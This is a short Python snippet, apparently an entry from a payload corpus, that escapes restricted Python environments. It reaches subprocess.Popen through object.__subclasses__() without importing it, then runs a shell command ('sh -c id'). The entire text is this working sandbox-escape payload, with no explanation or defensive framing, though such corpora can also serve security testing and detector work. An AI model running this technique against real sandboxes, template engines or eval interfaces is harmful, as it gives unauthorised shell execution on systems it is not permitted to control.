# corpus: "".__class__.__mro__[-1].__subclasses__() searching for subprocess.Popen
subs = "".__class__.__mro__[-1].__subclasses__()
popen = [c for c in subs if c.__name__ == "Popen"]
if popen:
    popen[0](["sh", "-c", "id"], stdout=-1).communicate()
